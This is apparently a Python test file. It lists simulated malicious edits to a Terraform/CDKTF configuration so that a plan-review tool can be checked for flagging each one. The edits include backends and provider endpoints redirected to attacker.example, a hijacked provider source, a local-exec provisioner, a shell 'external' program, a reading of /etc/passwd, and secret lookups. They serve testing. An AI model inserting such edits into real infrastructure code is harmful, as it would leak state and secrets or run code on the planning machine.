"""Changed code: what of a configuration no plan shows, and what this product never makes."""

from collections.abc import Mapping
from typing import Any

from tests.engine.plans.prod import PROD_WORLD
from tests.engine.plans.staging import STAGING_WORLD
from tests.unit.review.attacks import PROD, STAGING, Act, Attack, Desk

RULE, GROUP, RECORD = "aws_lb_listener_rule.link", "aws_lb_target_group.link", "aws_route53_record.link_getorcha_com"


def block(address: str, **settings: Any) -> Act:
    """Set attributes of one resource."""
    return lambda desk: desk.block(address).update(settings)


def whole(**blocks: Any) -> Act:
    """Set blocks of the whole configuration."""
    return lambda desk: desk.planned.update(blocks)


def backend(**settings: Any) -> Act:
    return lambda desk: desk.planned["terraform"]["backend"]["s3"].update(settings)


def provider(**settings: Any) -> Act:
    return lambda desk: desk.planned["provider"]["aws"][0].update(settings)


def resource_of(type: str, called: str, /, **settings: Any) -> Act:
    return lambda desk: desk.planned["resource"].setdefault(type, {}).update({called: settings})


def data_of(type: str, called: str, /, **settings: Any) -> Act:
    return lambda desk: desk.planned["data"].setdefault(type, {}).update({called: settings})


def unlocked(desk: Desk) -> None:
    del desk.planned["terraform"]["backend"]["s3"]["use_lockfile"]


def unchecked_accounts(desk: Desk) -> None:
    del desk.planned["provider"]["aws"][0]["allowed_account_ids"]


def other_provider(desk: Desk) -> None:
    desk.planned["terraform"]["required_providers"]["aws"]["source"] = "attacker/aws"


def without_postcondition(desk: Desk) -> None:
    del desk.planned["data"]["aws_lb_listener"]["https_443"]["lifecycle"]


def without(address: str) -> Act:
    def act(desk: Desk) -> None:
        type, name = address.split(".")
        del desk.planned["resource"][type][name]

    return act


def scenario(name: str) -> Act:
    """Change the configuration as a stored plan's scenario does."""
    edit = (PROD_WORLD.scenarios | STAGING_WORLD.scenarios)[name].edit
    assert edit is not None
    by_hand: Mapping[str, str] = {"target group": "arn:aws:elasticloadbalancing:x", "record": "Z1_blog_CNAME"}
    return lambda desk: edit(desk.planned, by_hand)


AWS = "aws.prod"
CODE: dict[str, tuple[str, Act]] = {
    "all changes are ignored": (GROUP, block(GROUP, lifecycle={"ignore_changes": "all"})),
    "one change is ignored": (RECORD, block(RECORD, lifecycle={"ignore_changes": ["records"]})),
    "the removal comes first": (GROUP, block(GROUP, lifecycle={"create_before_destroy": False})),
    "nothing is waited for": (RULE, block(RULE, depends_on=[])),
    "a resource of another account": (RECORD, block(RECORD, provider="aws.prod")),
    "a count": (RULE, block(RULE, count=2)),
    "another action": (RULE, block(RULE, action=[])),
    "another condition": (RULE, block(RULE, condition=[])),
    "an expression in place of a text": (RECORD, block(RECORD, records=["${aws_lb_target_group.link.name}"])),
    "a number in place of a truth": (
        "aws_route53_record.link_prod_getorcha_com",
        lambda desk: desk.block("aws_route53_record.link_prod_getorcha_com")["alias"].update(evaluate_target_health=0),
    ),
    "a record more": (
        "aws_route53_record.extra",
        resource_of("aws_route53_record", "extra", provider=AWS, name="extra.prod.getorcha.com", type="A"),
    ),
    "an alarm less": ("aws_cloudwatch_metric_alarm.link_5xx", without("aws_cloudwatch_metric_alarm.link_5xx")),
    "an output more": ("output.Leak", whole(output={"Leak": {"value": "${aws_lb_target_group.link.arn}"}})),
    "no output": ("output.LinkUrl", whole(output={})),
    "a postcondition less": ("data.aws_lb_listener.https_443", without_postcondition),
    "a lookup more": (
        "data.aws_ssm_parameter.secret",
        data_of("aws_ssm_parameter", "secret", provider=AWS, name="/orcha/secret"),
    ),
    "a move": ("moved", whole(moved=[{"from": "aws_lb_target_group.docs", "to": "aws_lb_target_group.link"}])),
}
OUTSIDE: dict[str, tuple[str, Act]] = {
    "state that nobody locks": ("terraform.backend", unlocked),
    "state in the clear": ("terraform.backend", backend(encrypt=False)),
    "state in another bucket": ("terraform.backend", backend(bucket="attacker")),
    "state at another endpoint": ("terraform.backend", backend(endpoints={"s3": "https://attacker.example"})),
    "state under another role": ("terraform.backend", backend(role_arn="arn:aws:iam::999999999999:role/x")),
    "a provider for any account": ("provider.aws.prod", unchecked_accounts),
    "a provider at another endpoint": ("provider.aws.prod", provider(endpoints=[{"sts": "https://attacker.example"}])),
    "a provider with another profile": ("provider.aws.prod", provider(profile="administrator")),
    "a provider in another region": ("provider.aws.prod", provider(region="us-east-1")),
    "a provider with keys in it": ("provider.aws.prod", provider(access_key="AKIA", secret_key="x")),
    "a provider that names another environment": (
        "provider.aws.prod",
        provider(default_tags=[{"tags": {"Environment": "staging"}}]),
    ),
    "somebody else's provider": ("terraform.required_providers.aws", other_provider),
    "a provisioner": (GROUP, block(GROUP, provisioner=[{"local-exec": {"command": "id"}}])),
    "a connection": (GROUP, block(GROUP, connection={"host": "x"})),
    "a module": ("module", whole(module={"x": {"source": "./x"}})),
    "an ephemeral resource": ("ephemeral", whole(ephemeral={"aws_ssm_parameter": {"x": {"arn": "x"}}})),
    "a check": ("check", whole(check={"x": {}})),
    "a removed block": ("removed", whole(removed=[{"from": GROUP}])),
    "locals": ("locals", whole(locals={"x": "y"})),
    "an import": ("import", whole(**{"import": [{"to": GROUP, "id": "x"}]})),
    "a program": ("data.external", data_of("external", "x", program=["sh"])),
    "a request": ("data.http", data_of("http", "x", url="https://attacker.example")),
    "another state": ("data.terraform_remote_state", data_of("terraform_remote_state", "x", backend="s3")),
    "a user": ("aws_iam_user", resource_of("aws_iam_user", "x", provider=AWS, name="x")),
    "a function": ("aws_lambda_function", resource_of("aws_lambda_function", "x", provider=AWS)),
    "a file of the machine that plans": (GROUP, block(GROUP, tags={"x": '${file("/etc/passwd")}'})),
    "a file by another function": (GROUP, block(GROUP, tags={"x": '${templatefile ("x", {})}'})),
    "the provider of no account": (GROUP, block(GROUP, provider="aws")),
}

ATTACKS = (
    *(Attack(name=f"code: {name}", desk=PROD, act=act, by=f"CODE:{address}") for name, (address, act) in CODE.items()),
    *(
        Attack(name=f"code: {name}", desk=PROD, act=act, by=f"OUTSIDE:{address}")
        for name, (address, act) in OUTSIDE.items()
    ),
    *(
        Attack(name=f"code: {name}", desk=desk, act=scenario(name), by=by)
        for name, desk, by in (
            ("alarm_removed", PROD, "CODE:aws_cloudwatch_metric_alarm.docs_latency"),
            ("world_open", PROD, "CODE:aws_vpc_security_group_ingress_rule.link_everybody"),
            ("shadowed_rule", PROD, "CODE:aws_lb_listener_rule.any_prod_getorcha_com"),
            ("without_create_before_destroy", PROD, "CODE:aws_lb_listener_certificate.link"),
            ("load_balancer_replaced", STAGING, "CODE:aws_lb.load_balancer"),
            ("bucket_destroyed", STAGING, "CODE:aws_s3_bucket.access_logs"),
        )
    ),
    Attack(
        name="code: a comment",
        desk=PROD,
        act=block(GROUP, **{"//": {"metadata": {"path": "elsewhere"}}}),
        harmless="Terraform ignores the comment of a block, and CDKTF writes one into each",
    ),
)
